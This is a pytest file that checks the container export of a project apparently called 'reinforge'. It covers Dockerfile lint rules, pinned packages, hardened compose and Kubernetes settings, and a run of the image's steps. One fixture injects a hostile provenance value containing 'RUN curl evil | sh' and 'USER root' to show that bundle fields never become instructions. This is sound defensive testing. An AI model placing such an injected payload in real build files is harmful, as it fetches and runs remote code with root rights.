"""Containers: files that parse, follow the rules of hadolint and of pod security, and hold no line of a bundle's."""

from __future__ import annotations

import json
import os
import re
import shlex
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from reinforge.bundle.loading import load
from reinforge.export.container import kubernetes, plain_name
from reinforge.export.export import export
from tests.bundle import made

ROOT = Path(__file__).parents[2]
HOSTILE = "x\"]\nUSER root\nRUN curl evil | sh # \u2028 ${HOME} {{.}} '; --"


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("container")
    form, _table = made.table_form()
    made.table_bundle(place / "plain")
    bundle = load(place / "plain")
    from reinforge.bundle.writing import write_bundle

    write_bundle(
        place / "bundle", model=bundle.model, options=bundle.blueprint.options, signature=bundle.signature, form=form,
        examples=[{"size": 1.0, "mass": 1, "island": "Dream"}], provenance={"name": HOSTILE},
    )  # fmt: skip
    export(place / "bundle", "container", place / "out")
    return place / "out"


def instructions(text: str) -> Iterator[tuple[str, str]]:
    """A Dockerfile's instructions, lines joined."""
    for line in re.sub(r"\\\n\s*", " ", text).splitlines():
        if line.strip() and not line.startswith("#"):
            name, _space, rest = line.partition(" ")
            yield name, rest


def test_the_dockerfile_keeps_the_rules_of_hadolint(folder: Path) -> None:
    found = list(instructions((folder / "Dockerfile").read_text()))
    assert {name for name, _rest in found} <= {
        "FROM", "ENV", "WORKDIR", "RUN", "COPY", "LABEL", "USER", "EXPOSE", "HEALTHCHECK", "STOPSIGNAL", "ENTRYPOINT",
        "CMD",
    }  # fmt: skip
    for name, rest in found:
        if name == "FROM":
            # DL3006, DL3007: tagged, and not by latest.
            image = rest.split()[0]
            assert re.search(r":[0-9][\w.-]+$", image), image
            assert "slim" in image
        if name == "RUN":
            # DL3004, DL4006, DL3003: no sudo, no pipe, no cd; DL3042: no cache of pip.
            assert not re.search(r"\bsudo\b|\||\bcd\b|curl|wget|apt-get", rest), rest
        if name == "COPY":
            assert "ADD" not in rest
        if name in ("ENTRYPOINT", "CMD"):
            assert isinstance(json.loads(rest), list)  # DL3025
    assert ("ENV", "PIP_NO_CACHE_DIR=1 PIP_DISABLE_PIP_VERSION_CHECK=1") in found
    names = [name for name, _rest in found]
    # DL3002: the last user is not root; DL4003, DL4004: one of each at the end.
    last = next(rest for name, rest in reversed(found) if name == "USER")
    assert last == "10001:10001"
    assert names.count("CMD") == names.count("ENTRYPOINT") == names.count("HEALTHCHECK") == 1
    assert names.index("USER") < names.index("ENTRYPOINT")


def test_every_package_is_pinned(folder: Path) -> None:
    lines = (folder / "requirements.txt").read_text().splitlines()
    assert all(re.fullmatch(r"[\w.\[\],-]+==[\w.!]+", line) for line in lines), lines
    assert any(line.startswith("reinforge[") for line in lines)
    assert any(line.startswith("torch==") for line in lines)


def test_no_field_of_a_bundle_becomes_a_line(folder: Path) -> None:
    bundle = load(folder / "bundle")
    assert re.fullmatch(r"[a-z0-9][a-z0-9-]*", plain_name(bundle))
    for name in ("Dockerfile", "compose.yaml", "prometheus.yml", "kubernetes.yaml", "requirements.txt"):
        text = (folder / name).read_text()
        assert "evil |" not in text
        assert "USER root" not in text
        assert "\u2028" not in text


def test_compose_and_prometheus_parse_and_are_shut(folder: Path) -> None:
    told = yaml.safe_load((folder / "compose.yaml").read_text())
    name = plain_name(load(folder / "bundle"))
    assert set(told["services"]) == {name, "redis", "prometheus"}
    for service in told["services"].values():
        assert service["read_only"] is True
        assert service["security_opt"] == ["no-new-privileges:true"]
        assert all(port.startswith("127.0.0.1:") for port in service.get("ports", ()))
        assert not service.get("image", "").endswith(":latest") or "build" in service
    assert "--tokens" in told["services"][name]["command"]
    scrape = yaml.safe_load((folder / "prometheus.yml").read_text())["scrape_configs"][0]
    assert scrape["static_configs"][0]["targets"] == [f"{name}:8000"]


def test_kubernetes_documents_keep_the_restricted_standard(folder: Path) -> None:
    documents = list(yaml.safe_load_all((folder / "kubernetes.yaml").read_text()))
    kinds: dict[str, Any] = {document["kind"]: document for document in documents}
    assert set(kinds) == {"Deployment", "Service", "HorizontalPodAutoscaler", "PodDisruptionBudget"}
    pod = kinds["Deployment"]["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    assert pod["securityContext"]["runAsNonRoot"] is True
    assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
    assert container["securityContext"] == {
        "allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True, "capabilities": {"drop": ["ALL"]},
    }  # fmt: skip
    assert {"readinessProbe", "livenessProbe", "startupProbe", "resources"} <= container.keys()
    labels = kinds["Deployment"]["spec"]["template"]["metadata"]["labels"]
    assert kinds["Service"]["spec"]["selector"] == labels
    assert kinds["HorizontalPodAutoscaler"]["spec"]["scaleTargetRef"]["name"] == kinds["Deployment"]["metadata"]["name"]
    assert list(yaml.safe_load_all(kubernetes("a", "b")))


@pytest.mark.slow
def test_its_steps_run_as_a_script(folder: Path, tmp_path: Path) -> None:
    found = list(instructions((folder / "Dockerfile").read_text()))
    environment = {**os.environ, "PYTHONPATH": str(ROOT / "src"), "HOME": str(tmp_path)}
    run = [sys.executable, "-m", "reinforge"]
    (check,) = [
        rest.partition("&& reinforge ")[2] for name, rest in found if "reinforge verify" in rest and name == "RUN"
    ]
    where = str(folder / "bundle")
    done = subprocess.run(
        [*run, *shlex.split(check.replace("/srv/bundle", where))], env=environment, capture_output=True, text=True,
        check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    told = {name: json.loads(rest) for name, rest in found if name in ("ENTRYPOINT", "CMD")}
    health = json.loads(next(rest for name, rest in found if name == "HEALTHCHECK").partition("CMD ")[2])
    with subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import socket; s = socket.socket(); s.bind(('127.0.0.1', 0)); print(s.getsockname()[1])",
        ],
        stdout=subprocess.PIPE,
        text=True,
    ) as free:
        port = (free.communicate()[0]).strip()
    swap = {"0.0.0.0": "127.0.0.1", "8000": port}
    command = [swap.get(part, part.replace("/srv/bundle", where)) for part in (*told["ENTRYPOINT"][1:], *told["CMD"])]
    with subprocess.Popen(
        [*run, *command], env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    ) as server:
        try:
            probe = [sys.executable, *(part.replace(":8000", f":{port}") for part in health[1:])]
            end = time.monotonic() + 120
            while subprocess.run(probe, capture_output=True, check=False).returncode != 0:
                assert time.monotonic() < end
                assert server.poll() is None
                time.sleep(0.5)
        finally:
            server.send_signal(signal.SIGTERM)
            assert server.wait(60) == 0
